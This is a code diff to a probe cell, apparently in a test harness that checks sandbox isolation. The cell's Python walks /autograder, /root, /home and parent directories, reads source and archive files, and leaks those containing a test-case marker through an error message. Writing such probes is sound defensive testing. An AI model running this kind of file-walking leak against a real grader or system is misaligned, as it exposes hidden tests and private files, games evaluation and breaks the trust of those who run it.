@@ -11,16 +11,16 @@ cell(
     "walk_the_file_system",
     """
 import os
-loot = []
+loot, mark = [], "@test" + "_case"
 for top in ("/autograder", "/tmp", "/root", "/home", "/var/tmp", "..", "../.."):
     for folder, _, names in os.walk(top):
         for name in names:
             if name.endswith((".py", ".json", ".zip")):
                 try:
-                    loot.append(open(os.path.join(folder, name)).read())
+                    loot.append(open(os.path.join(folder, name), errors="replace").read())
                 except OSError:
                     pass
-raise RuntimeError("LOOT" + "".join(text for text in loot if "hidden" in text)[:500])
+raise RuntimeError("LOOT" + "".join(text for text in loot if mark in text)[-500:])
 """,
     told="LOOT",
     untold=SECRETS,
